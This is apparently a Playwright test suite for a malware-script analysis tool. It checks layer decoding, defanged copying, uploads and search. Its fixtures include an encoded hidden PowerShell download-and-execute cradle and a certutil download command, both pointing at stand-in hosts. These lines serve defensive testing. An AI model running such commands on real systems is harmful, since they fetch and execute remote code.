import { createHash } from 'node:crypto';
import type { Browser, Page } from 'playwright-core';
import { findChromium, launch, openPage, signIn, violations } from './support/browser.mjs';
import { startStandalone } from './support/standalone.mjs';

type Product = Awaited<ReturnType<typeof startStandalone>>;
type Opened = Awaited<ReturnType<typeof openPage>>;

const suite = findChromium() ? describe : describe.skip;
const inner = "IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/p.ps1')";
const script = `powershell -nop -w hidden -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;
const hashOf = (bytes: string | Buffer): string => createHash('sha256').update(bytes).digest('hex');

/** A malware analyst with a script in hand, in a real browser. */
suite('an analyst with a script', () => {
  let browser: Browser;
  let product: Product;

  beforeAll(async () => {
    product = await startStandalone();
    browser = await launch();
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await product?.stop();
  }, 180_000);

  async function open(options: object = {}): Promise<{ opened: Opened; page: Page }> {
    const opened = await openPage(browser, product.url, options);
    opened.page.setDefaultTimeout(60_000);
    await signIn(opened.page, product.url, product.user, product.password);
    await opened.page.getByRole('heading', { name: 'Incidents', exact: true }).waitFor();
    return { opened, page: opened.page };
  }
  const submit = async (page: Page, text: string): Promise<void> => {
    await page.goto(`${product.url}/scripts`);
    await page.getByRole('textbox', { name: 'Script' }).fill(text);
    await page.getByRole('button', { name: 'Analyze', exact: true }).click();
    await page.getByRole('region', { name: 'Facts' }).waitFor();
  };
  const layer = (page: Page, index: number) => page.getByRole('region', { name: `Layer ${index}`, exact: true });
  const clipboard = (page: Page): Promise<string> => page.evaluate(() => navigator.clipboard.readText());
  const clean = { foreign: [], violations: [], errors: [] };

  test('pastes it, reads the last layer beside the one it came from, and follows a citation to its line', async () => {
    const { opened, page } = await open();
    await submit(page, script);
    await page.getByRole('heading', { name: 'Malicious PowerShell script' }).waitFor();
    expect(page.url()).toMatch(/\/scripts\/[0-9a-f]{64}$/);
    expect(await layer(page, 1).textContent()).toContain(inner);
    expect(await page.getByRole('region', { name: /where layer 1 came from/ }).locator('mark').textContent()).toBe(script.split(' ').at(-1));
    await page.getByRole('article', { name: 'Explanation' }).getByRole('button', { name: /^0:1, show / }).first().click();
    await page.waitForURL(/#layer-0-line-1/);
    expect(await layer(page, 0).locator('mark').count()).toBe(1);
    expect(await page.getByRole('region', { name: 'Indicators' }).textContent()).toContain('hxxp://a[.]example[.]test/p.ps1');
    expect(opened.watched).toEqual(clean);
    await opened.close();
  }, 240_000);

  test('hides code and techniques until they are wanted again, and a link to a line shows it all the same', async () => {
    const { opened, page } = await open();
    const lines = `${'echo filler\n'.repeat(300)}certutil -urlcache -split -f http://deep.example.test/x.exe C:\\Users\\Public\\x.exe\n`;
    await submit(page, lines);
    await page.getByRole('switch', { name: 'Code' }).click();
    await page.getByRole('switch', { name: 'Techniques' }).click();
    await page.reload();
    await page.getByRole('region', { name: 'Facts' }).waitFor();
    expect(await page.getByRole('region', { name: 'Layers' }).count()).toBe(0);
    expect(await page.getByRole('region', { name: 'Techniques' }).count()).toBe(0);
    await page.goto('about:blank');
    await page.goto(`${product.url}/scripts/${hashOf(lines)}#layer-0-line-301`);
    const marked = layer(page, 0).locator('[data-marked]');
    await marked.waitFor();
    expect(await marked.textContent()).toContain('deep.example.test');
    const box = await marked.boundingBox();
    const pane = await layer(page, 0).boundingBox();
    expect(box && pane && box.y >= pane.y && box.y + box.height <= pane.y + pane.height + 1).toBe(true);
    expect(box && box.y > 48 && box.y < 900).toBe(true);
    await page.getByRole('switch', { name: 'Code' }).click();
    expect(await page.getByRole('region', { name: 'Layers' }).count()).toBe(0);
    await page.getByRole('switch', { name: 'Techniques' }).click();
    await page.getByRole('region', { name: 'Techniques' }).waitFor();
    await page.getByRole('region', { name: 'Facts' }).getByRole('button', { name: /^0:301, show/ }).first().press('Enter');
    await layer(page, 0).waitFor();
    expect(opened.watched).toEqual(clean);
    await opened.close();
  }, 240_000);

  test('copies it defanged for a ticket and as it is for a tool', async () => {
    const { opened, page } = await open();
    await submit(page, script);
    const copy = async (button: string, choice: string): Promise<string> => {
      await page.getByRole('button', { name: button, exact: true }).first().click();
      await page.getByRole('menuitem', { name: choice }).click();
      await page.waitForTimeout(150);
      return clipboard(page);
    };
    const analysis = page.getByRole('article', { name: 'Explanation' });
    await analysis.getByRole('button', { name: 'Copy', exact: true }).click();
    // A menu must not cover the page it belongs to.
    expect(await page.evaluate(() => document.elementFromPoint(30, 20)?.closest('header') !== null)).toBe(true);
    await page.getByRole('menuitem', { name: 'Analysis, addresses defanged' }).click();
    await page.waitForTimeout(150);
    expect(await clipboard(page)).toMatch(/hxxp:\/\/a\[\.\]example\[\.\]test/);
    expect(await clipboard(page)).not.toContain('http://a.example.test');
    expect(await copy('Copy all', 'Real values')).toContain('http://a.example.test/p.ps1');
    expect(await copy('Copy all', 'Hunting queries')).toMatch(/\| where /);
    expect(await copy('Copy layer 1', 'Text as it is')).toBe(inner);
    expect(await copy('Copy layer 1', 'Text, addresses defanged')).toBe(inner.replace('http://a.example.test', 'hxxp://a[.]example[.]test'));
    expect(await copy('Copy layer 1', 'Link to this layer')).toBe(`${product.url}/scripts/${hashOf(script)}#layer-1`);
    expect(opened.watched).toEqual(clean);
    await opened.close();
  }, 240_000);

  test('drops a file larger than GraphQL takes, in an encoding of its own, and is told why others are refused', async () => {
    const { opened, page } = await open();
    await page.goto(`${product.url}/scripts`);
    await page.getByText('up to 20.0 MB').waitFor();
    const file = page.getByTestId('script-file');
    await file.setInputFiles({ name: 'empty.ps1', mimeType: 'text/plain', buffer: Buffer.alloc(0) });
    await page.getByText('empty.ps1 is empty.').waitFor();
    await file.setInputFiles({ name: 'huge.ps1', mimeType: 'text/plain', buffer: Buffer.alloc(21 * 1024 * 1024, 'x') });
    await page.getByText('huge.ps1 has 21.0 MB; a script may have 20.0 MB.').waitFor();
    await page.route('**/api/scripts*', (route) => route.fulfill({ status: 413, contentType: 'application/json', body: '{"error":{"code":"TOO_LARGE","message":"A script may have 1 MB; this one has 3 MB."}}' }), { times: 1 });
    await file.setInputFiles({ name: 'refused.ps1', mimeType: 'text/plain', buffer: Buffer.from('x y') });
    await page.getByText('A script may have 1 MB; this one has 3 MB.').waitFor();
    const bytes = Buffer.from(`\ufeff# ${'filler '.repeat(180_000)}\n${inner} # big\n`, 'utf16le').swap16();
    expect(bytes.length).toBeGreaterThan(2_400_000);
    const data = await page.evaluateHandle((base64) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([Uint8Array.from(atob(base64), (c) => c.charCodeAt(0))], 'Big one.ps1'));
      return transfer;
    }, bytes.toString('base64'));
    await page.getByRole('region', { name: 'Submit a script' }).dispatchEvent('drop', { dataTransfer: data });
    await page.waitForURL(new RegExp(hashOf(bytes)));
    await page.getByRole('region', { name: 'Facts' }).waitFor();
    expect(await page.getByRole('banner').or(page.locator('main header')).last().textContent()).toContain('Big one.ps1');
    expect(await page.getByRole('region', { name: 'Indicators' }).textContent()).toContain('hxxp://a[.]example[.]test/p.ps1');
    expect(opened.watched).toEqual(clean);
    await opened.close();
  }, 240_000);

  test('sees an analysis arrive and change by itself, without asking again and again', async () => {
    const { opened, page } = await open();
    const text = `echo one & echo two & rem ${Date.now()}`;
    await page.goto(`${product.url}/scripts/${hashOf(text)}`);
    await page.getByRole('heading', { name: 'There is no script with this hash' }).waitFor();
    await page.waitForTimeout(1_000);
    await product.graphql('mutation ($text: String) { submitScript(text: $text, language: BATCH) { sha256 } }', { text });
    await page.getByRole('region', { name: 'Facts' }).waitFor();
    expect(await page.getByText('Batch, as was said').count()).toBe(1);
    await page.getByRole('button', { name: 'Analyze again in another language' }).click();
    await page.getByRole('menuitem', { name: 'Shell', exact: true }).click();
    await page.getByText('Shell, as was said').waitFor();
    await page.getByText('Version 2', { exact: true }).waitFor();
    let asked = 0;
    page.on('request', (request) => {
      if (request.url().endsWith('/graphql')) asked++;
    });
    await page.waitForTimeout(3_000);
    expect(asked).toBe(0);
    expect(opened.watched).toEqual(clean);
    await opened.close();
  }, 240_000);

  test('finds scripts among many, page after page', async () => {
    const { opened, page } = await open();
    await submit(page, script);
    await page.goto(`${product.url}/scripts`);
    const rows = page.getByRole('list', { name: 'Scripts' }).getByRole('listitem');
    await rows.first().waitFor();
    const before = await rows.count();
    await page.getByRole('button', { name: 'Show more' }).click();
    await page.waitForFunction((count) => document.querySelectorAll('main li').length > count, before);
    expect(new Set(await rows.getByRole('link').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).size).toBe(await rows.count());
    await page.getByRole('searchbox', { name: /Text, indicator/ }).fill('hxxp://a[.]example[.]test/p');
    await page.waitForURL(/q=hxxp/);
    await page.waitForFunction(() => document.querySelectorAll('main li').length <= 4);
    for (const text of await rows.allTextContents()) expect(text).toMatch(/Malicious|Suspicious/);
    expect(await page.locator(`a[href*="${hashOf(script)}"]`).count()).toBe(1);
    await page.getByRole('combobox', { name: 'Verdict' }).selectOption('BENIGN');
    await page.getByRole('heading', { name: 'No script matches' }).waitFor();
    await page.getByRole('button', { name: 'Clear the filters' }).click();
    await rows.first().waitFor();
    expect(new URL(page.url()).search).toBe('');
    await page.getByRole('searchbox', { name: /Technique/ }).fill('T1059.0');
    await page.waitForTimeout(600);
    expect(new URL(page.url()).search).toBe('');
    await page.getByRole('searchbox', { name: /Technique/ }).fill('t1059.001');
    await page.waitForURL(/technique=T1059\.001/);
    await page.getByRole('combobox', { name: 'Time' }).selectOption('1h');
    await page.waitForURL(/since=1h/);
    await rows.first().waitFor();
    expect(opened.watched).toEqual(clean);
    await opened.close();
  }, 240_000);

  test('is told when the list or a script cannot be loaded, and tries again', async () => {
    const { opened, page } = await open();
    await page.route('**/graphql', (route) => (/"Scripts?"/.test(route.request().postData() ?? '') ? route.abort() : route.continue()));
    for (const [path, title] of [['/scripts', 'The scripts cannot be shown'], [`/scripts/${'a'.repeat(64)}`, 'The script cannot be shown']] as const) {
      await page.goto(product.url + path);
      await page.getByRole('heading', { name: title }).waitFor();
    }
    await page.unroute('**/graphql');
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByRole('heading', { name: 'There is no script with this hash' }).waitFor();
    await opened.close();
  }, 240_000);

  test('finds the command lines of an incident analysed by themselves, from its scripts and from its evidence', async () => {
    const { opened, page } = await open();
    await page.locator('[data-incident]').first().waitFor();
    const ids = await page.locator('[data-incident]').evaluateAll((rows) => rows.map((row) => row.getAttribute('data-incident')));
    let found = 0;
    let led = 0;
    for (const id of ids) {
      await page.goto(`${product.url}/incidents/${encodeURIComponent(String(id))}/scripts`);
      await page.getByRole('tab', { name: 'Scripts' }).waitFor();
      await page.waitForTimeout(600);
      found += await page.getByRole('tabpanel').getByRole('listitem').count();
      await page.goto(`${product.url}/incidents/${encodeURIComponent(String(id))}/evidence`);
      await page.getByRole('table', { name: 'Evidence' }).waitFor();
      const chip = page.getByRole('link', { name: /^Script: (malicious|suspicious|benign|unknown)$/ }).first();
      if (led > 0 || (await chip.count()) === 0) continue;
      const verdict = (await chip.textContent())?.replace('Script: ', '');
      await chip.click();
      await page.getByRole('article', { name: 'Explanation' }).waitFor();
      expect((await page.locator('main header').first().textContent())?.toLowerCase()).toContain(verdict);
      await page.getByRole('link', { name: `Incident ${id}` }).waitFor();
      led++;
    }
    expect([found > 0, led]).toEqual([true, 1]);
    expect(opened.watched).toEqual(clean);
    await opened.close();
  }, 240_000);

  test.each(['light', 'dark'] as const)('can be read by everybody in the %s theme', async (colorScheme) => {
    const { opened, page } = await open({ colorScheme });
    await page.goto(`${product.url}/scripts`);
    await page.getByRole('list', { name: 'Scripts' }).getByRole('listitem').first().waitFor();
    expect(await violations(page)).toEqual([]);
    await submit(page, script);
    await page.getByRole('region', { name: 'Facts' }).getByRole('button', { name: /show/ }).first().click();
    expect(await violations(page)).toEqual([]);
    await opened.close();
  }, 240_000);

  test('works on a phone and by keyboard', async () => {
    const { opened, page } = await open({ viewport: { width: 390, height: 844 } });
    await submit(page, script);
    const wide = (): Promise<number> => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(await wide()).toBeLessThanOrEqual(0);
    const fact = page.getByRole('region', { name: 'Facts' }).getByRole('button', { name: /^1:1, show/ }).first();
    await fact.focus();
    await page.keyboard.press('Enter');
    await page.waitForURL(/#layer-1-line-1/);
    const mark = await layer(page, 1).locator('mark').boundingBox();
    expect(mark && mark.y >= 48 && mark.y < 844).toBe(true);
    expect(await page.getByRole('status', { name: 'What is shown' }).textContent()).toContain('Layer 1, line 1: IEX');
    await page.goto(`${product.url}/scripts`);
    await page.getByRole('list', { name: 'Scripts' }).getByRole('listitem').first().waitFor();
    expect(await wide()).toBeLessThanOrEqual(0);
    expect(opened.watched).toEqual(clean);
    await opened.close();
  }, 240_000);
});
